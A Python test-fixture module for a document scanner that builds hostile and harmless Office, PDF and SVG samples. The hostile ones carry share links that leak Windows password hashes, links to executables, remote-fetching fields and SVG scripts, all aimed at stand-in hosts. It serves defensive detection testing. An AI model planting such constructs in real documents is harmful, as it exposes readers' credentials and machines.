"""Files that fetch from elsewhere or log on to a share once they are shown or clicked.

Windows sends the reader's name and a hash of his password to any share it is asked for.
"""

from claims.inspection import Code
from tests.inspection.offices import (
    EXTERNAL,
    OFFICE,
    document,
    docx,
    docx_linked,
    docx_saying,
    field_runs,
    links,
    override,
    pptx,
    sheet,
    slide,
    xlsx,
    xlsx_saying,
)
from tests.inspection.pdfs import bodies, packed, plain, stream, with_annotation
from tests.inspection.samples import Sample, honest, hostile

ACTIVE, OUTSIDE = Code.ACTIVE_CONTENT, Code.EXTERNAL_REFERENCE

_SHARES = (
    "file://host/s/a.docx",
    "\\\\host\\s\\a",
    "//host/s/a",
    "file:///\\\\host\\s",
    "FILE:\\\\host\\s",
    "file:////host/s",
    "file:///%5C%5Chost/s",
    "nfs://host/s",
    "davs://host/s",
    "\\\\host@SSL\\DavWWWRoot\\a",
)
_PROGRAMS = (
    "file:///C:/Windows/System32/calc.exe",
    "C:\\Users\\Public\\a.hta",
    "\\\\host\\s\\a.lnk",
    "Annex/setup.exe",
)
_HARMLESS = (
    "www.example.com",
    "https://example.com/setup.exe",
    "mailto:jane@example.com",
    "file:///C:/Users/jane/Scope%20of%20work.docx",
    "Annex/report.pdf",
    "file://#chapter",
    "www.example.com/start.aspx",
    "tel:+49301234567",
    "msteams://teams.example.com/l/meetup-join/1",
)
STRICT = "http://purl.oclc.org/ooxml/officeDocument/relationships"
_SVG = b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/1999/xlink">%s</svg>'


def _uri(target: str) -> bytes:
    written = target.replace("\\", "\\\\").encode()
    return with_annotation(b"<</Subtype/Link/A<</S/URI/URI(%s)>>>>" % written)


def _drawing(inner: bytes, name: str = "word/media/a.svg") -> bytes:
    return docx({name: _SVG % inner})


def _connection(attributes: str) -> bytes:
    inner = f"<connections><connection {attributes}</connections>"
    return xlsx({"xl/connections.xml": inner.encode()})


_DRAWINGS = (
    ("picture", _drawing(b'<image x:href="http://e.test/a.png"/>'), OUTSIDE),
    ("share", _drawing(b'<use href="\\\\h\\s#a"/>'), OUTSIDE),
    ("style sheet", _drawing(b"<style>@import 'http://e.test/a';</style>"), OUTSIDE),
    ("style", _drawing(b'<rect style="fill:url(http://e.test/a)"/>'), OUTSIDE),
    ("escaped style", _drawing(b'<a style="fill:\\75 rl(//e.test/a)"/>'), OUTSIDE),
    ("filter", _drawing(b'<filter><feImage href="file://h/a"/></filter>'), OUTSIDE),
    ("link to a share", _drawing(b'<a x:href="file://h/a"/>'), OUTSIDE),
    (
        "sheet before the root",
        docx({"word/a.svg": b'<?xml-stylesheet href="http://e.test/a"?>' + _SVG % b""}),
        OUTSIDE,
    ),
    (
        "script under a picture's name",
        _drawing(b"<script>x</script>", "word/media/a.png"),
        ACTIVE,
    ),
    ("script in an animation", _drawing(b'<set to="javascript:x"/>'), ACTIVE),
    ("page as a picture", _drawing(b'<image href="data:text/html,x"/>'), ACTIVE),
)
_WORD = (
    ("link field", docx_saying(field_runs('HYPERLINK "\\\\\\\\h\\\\s"'))),
    ("link field, raw", docx_saying(field_runs('HYPERLINK "\\\\h\\s"'))),
    ("switch first", docx_saying(field_runs('HYPERLINK \\o "x" "file://h/s"'))),
    ("picture", docx_saying(field_runs('INCLUDEPICTURE \\d "http://e.test/a"'))),
    (
        "picture that is not kept",
        docx_saying(
            field_runs('INCLUDEPICTURE "http://e.test/a" \\d \\* MERGEFORMATINET')
        ),
    ),
    ("old picture", docx_saying('<v:imagedata xmlns:v="v" src="\\\\h\\a.png"/>')),
    ("stroke", docx_saying('<v:stroke xmlns:v="v" src="//h/a.png"/>')),
    ("shape", docx_saying('<v:shape xmlns:v="v" href="file://h/s"/>')),
    (
        "form letter",
        docx_saying('<w:connectString w:val="Data Source=\\\\h\\s\\a.mdb"/>'),
    ),
    (
        "links said to be data",
        docx(
            {
                "customXml/_rels/d.xml.rels": links(
                    ("attachedTemplate", "http://e.test/a", EXTERNAL)
                )
            },
            override("customXml/_rels/d.xml.rels", "application/xml"),
        ),
    ),
)
_EXCEL = (
    ("link formula", xlsx_saying('HYPERLINK("\\\\h\\s")')),
    ("link formula in pieces", xlsx_saying('HYPERLINK("file:" &amp; "//h/s")')),
    ("connection file", _connection('odcFile="\\\\h\\a.odc"/>')),
    (
        "text source",
        _connection('id="1"><textPr sourceFile="\\\\h\\a.csv"/></connection>'),
    ),
)
_PDF = (
    ("file specification", plain(bodies(b"<</Type/Filespec/F(//h/s/a.pdf)>>"))),
    ("packed", packed(bodies(b"<</Type/Filespec/UF(//h/s/a.pdf)>>"))),
    ("by reference", packed(bodies(b"<</Type/Filespec/F 11 0 R>>", b"(//h/s/a.pdf)"))),
    ("base of links", plain(bodies(catalog=b"/URI<</Base(file://h/s/)>>"))),
    (
        "proxy of a picture",
        plain(bodies(stream(b"", b"/Subtype/Form/OPI<</1.3<</F(//h/a.tif)>>>>"))),
    ),
)

# The relationship says "a link to click"; the element takes it without a click.
_PAGE = ("hyperlink", "https://e.test/a", EXTERNAL)
_BAD_VML = f'<x xmlns:v="v" xmlns:r="{OFFICE}"><v:fill r:id="rId1"/><br></x>'


def _slide_linked(body: str, link: tuple[str, ...] = _PAGE) -> bytes:
    return pptx(
        {
            "ppt/slides/slide1.xml": slide(body),
            "ppt/slides/_rels/slide1.xml.rels": links(link),  # type: ignore[arg-type]
        }
    )


def _text_linked(body: str) -> bytes:
    return docx(
        {
            "word/document.xml": document(body),
            "word/_rels/document.xml.rels": links(_PAGE),
        }
    )


def _sheet_linked(after: str) -> bytes:
    return xlsx(
        {
            "xl/worksheets/sheet1.xml": sheet(after=after),
            "xl/worksheets/_rels/sheet1.xml.rels": links(_PAGE),
        }
    )


_FETCHING = (
    ("picture", "a.pptx", _slide_linked('<a:blip r:link="rId1"/>')),
    (
        "picture on a disk",
        "a.pptx",
        _slide_linked(
            '<a:blip r:link="rId1"/>', ("hyperlink", "file:///C:/a.png", EXTERNAL)
        ),
    ),
    (
        "picture that only looks inside",
        "a.pptx",
        _slide_linked('<a:blip r:link="rId1"/>', ("hyperlink", "https://e.test/a")),
    ),
    ("film", "a.pptx", _slide_linked('<a:videoFile r:link="rId1"/>')),
    ("sound", "a.pptx", _slide_linked('<a:audioFile r:link="rId1"/>')),
    ("object", "a.pptx", _slide_linked('<p:oleObj r:id="rId1"><p:link/></p:oleObj>')),
    (
        "sound of a click",
        "a.pptx",
        _slide_linked(
            '<a:hlinkClick r:id="rId1"><a:snd r:embed="rId1"/></a:hlinkClick>'
        ),
    ),
    (
        "picture of the strict kind",
        "a.pptx",
        _slide_linked(f'<a:blip xmlns:s="{STRICT}" s:link="rId1"/>'),
    ),
    ("picture", "a.docx", _text_linked('<a:blip r:link="rId1"/>')),
    ("part", "a.docx", _text_linked('<w:altChunk r:id="rId1"/>')),
    (
        "old picture",
        "a.docx",
        _text_linked(
            '<v:imagedata xmlns:v="v" xmlns:o="urn:schemas-microsoft-com:office:office"'
            ' o:relid="rId1"/>'
        ),
    ),
    (
        "object",
        "a.xlsx",
        _sheet_linked('<oleObjects><oleObject r:id="rId1"/></oleObjects>'),
    ),
    (
        "careless old drawing",
        "a.xlsx",
        xlsx(
            {
                "xl/drawings/vmlDrawing1.vml": _BAD_VML.encode(),
                "xl/drawings/_rels/vmlDrawing1.vml.rels": links(_PAGE),
            }
        ),
    ),
)

HOSTILE: list[Sample] = [
    *(
        hostile(
            f"{name.partition('.')[2]} through a link: {title}", name, data, OUTSIDE
        )
        for title, name, data in _FETCHING
    ),
    *(
        hostile(f"{kind} link: {target}", f"a.{kind}", build(target), code)
        for targets, code in ((_SHARES, OUTSIDE), (_PROGRAMS, ACTIVE))
        for target in targets
        for kind, build in (
            ("docx", lambda to: docx_linked(("hyperlink", to, EXTERNAL))),
            ("pdf", _uri),
        )
    ),
    *(hostile(f"svg: {title}", "a.docx", data, c) for title, data, c in _DRAWINGS),
    *(hostile(f"docx elsewhere: {title}", "a.docx", d, OUTSIDE) for title, d in _WORD),
    *(hostile(f"xlsx elsewhere: {title}", "a.xlsx", d, OUTSIDE) for title, d in _EXCEL),
    *(hostile(f"pdf elsewhere: {title}", "a.pdf", d, OUTSIDE) for title, d in _PDF),
    hostile(
        "pptx elsewhere: drawing",
        "a.pptx",
        pptx({"ppt/media/a.svg": _SVG % b'<image href="http://e.test/a"/>'}),
        OUTSIDE,
    ),
    hostile(
        "xlsx elsewhere: drawing by its type",
        "a.xlsx",
        xlsx(
            {
                "xl/media/a.dat": b"<a:b xmlns:a='a'><image href='http://e.test/a'/></a:b>"
            },
            override("xl/media/a.dat", "image/svg+xml"),
        ),
        OUTSIDE,
    ),
]

HONEST: list[Sample] = [
    *(
        honest(
            f"docx link: {target}",
            "a.docx",
            docx_linked(("hyperlink", target, EXTERNAL)),
        )
        for target in _HARMLESS
    ),
    *(honest(f"pdf link: {target}", "a.pdf", _uri(target)) for target in _HARMLESS),
    *(
        honest(f"{name.partition('.')[2]}: link of {title}", name, data)
        for title, name, data in (
            ("a shape", "a.pptx", _slide_linked('<a:hlinkClick r:id="rId1"/>')),
            (
                "a shape passed over",
                "a.pptx",
                _slide_linked('<a:hlinkHover r:id="rId1"/>'),
            ),
            (
                "a picture",
                "a.pptx",
                _slide_linked('<a:hlinkClick r:id="rId1"/><a:blip r:embed="rId2"/>'),
            ),
            ("words", "a.docx", _text_linked('<w:hyperlink r:id="rId1"/>')),
            ("a word that is called so", "a.docx", _text_linked('<w:p w:id="rId1"/>')),
            (
                "a cell",
                "a.xlsx",
                _sheet_linked(
                    '<hyperlinks><hyperlink ref="A1" r:id="rId1"/></hyperlinks>'
                ),
            ),
            (
                "a kind of its own to a part inside",
                "a.pptx",
                _slide_linked('<a:blip r:embed="rId1"/>', ("hyperlink", "../a.png")),
            ),
        )
    ),
    honest(
        "link field with a tip",
        "a.docx",
        docx_saying(field_runs('HYPERLINK "https://example.com/a" \\o "See \\l"')),
    ),
    honest(
        "drawing with a picture of its own",
        "a.docx",
        _drawing(
            b'<style>.a{fill:url(#b)}</style><a x:href="https://example.com"/>'
            b'<image x:href="data:image/png;base64,iVBORw0KGgo="/><use x:href="#b"/>'
        ),
    ),
    honest(
        "annotation with flags and a file attached to nothing",
        "a.pdf",
        with_annotation(
            b"<</Subtype/Link/F 4/Rect[0 0 9 9]/A<</S/GoTo/D[3 0 R/Fit]/F(a)>>>>"
        ),
    ),
]
